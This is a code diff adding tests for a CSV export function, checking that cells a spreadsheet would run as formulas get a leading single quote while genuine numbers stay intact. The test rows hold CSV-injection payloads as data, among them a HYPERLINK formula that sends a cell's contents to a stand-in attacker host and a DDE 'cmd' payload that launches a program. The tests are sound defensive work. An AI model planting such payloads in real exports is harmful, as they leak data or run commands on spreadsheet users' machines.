@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { EXPORT_ERRORS, formatInstantInZone, toCsv } from './export-format';
+import { EXPORT_ERRORS, csvCellText, formatInstantInZone, toCsv } from './export-format';
 
 describe('toCsv', () => {
   it('quotes every field, doubles quotes and uses CRLF', () => {
@@ -12,6 +12,23 @@ describe('toCsv', () => {
   });
   it('keeps commas and line breaks inside the quotes', () => {
     expect(toCsv([{ a: 'one, two\nthree' }])).toBe('"a"\r\n"one, two\nthree"\r\n');
+  });
+  it('neutralises a cell a spreadsheet would run as a formula with a leading single quote, inside the quotes', () => {
+    const rows = [{ vessel: '=HYPERLINK("https://evil.example/?"&A1,"Click")', agent: '+cmd|\' /C calc\'!A0', remark: '-2+3', who: '@SUM(1+1)', tab: '\t=1+1', cr: '\r=1+1' }];
+    expect(toCsv(rows)).toBe(
+      '"vessel","agent","remark","who","tab","cr"\r\n' + `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","'+cmd|' /C calc'!A0","'-2+3","'@SUM(1+1)","'\t=1+1","'\r=1+1"\r\n`,
+    );
+    // Headers are cells too.
+    expect(toCsv([{ a: 1 }], { columns: [{ key: 'a', header: '=1+1' }] })).toBe(`"'=1+1"\r\n"1"\r\n`);
+  });
+  it('keeps real numbers as numbers: number values by type, texts by a strict number pattern', () => {
+    expect(toCsv([{ deviation: -3.5, code: 49, tiny: -1e-7, big: -12345678901234567890n }])).toBe('"deviation","code","tiny","big"\r\n"-3.5","49","-1e-7","-12345678901234567890"\r\n');
+    for (const text of ['-3.5', '+49', '-1,234.5', '-3,5', '-.5', '+1e5', '-0']) expect(csvCellText(text), text).toBe(text);
+    for (const text of ['-3.5 h', '+49 40 1234', '-1+1', '-A1', '+', '-', '=', '@', '-1e5)', '- 3']) expect(csvCellText(text), text).toBe(`'${text}`);
+    // A number that is not finite has no number form in a spreadsheet: its text is neutralised like any text.
+    expect(csvCellText(-Infinity)).toBe("'-Infinity");
+    // Ordinary texts, also with a trigger further in, are left alone.
+    for (const text of ['Nordic Line A/S', 'a=b', 'x@y.z', '2026-11-24 06:00', "'quoted", '']) expect(csvCellText(text), text).toBe(text);
   });
   it('refuses what is not an array of objects with the spec texts', () => {
     expect(() => toCsv('text')).toThrow("Can't export string data to csv.");
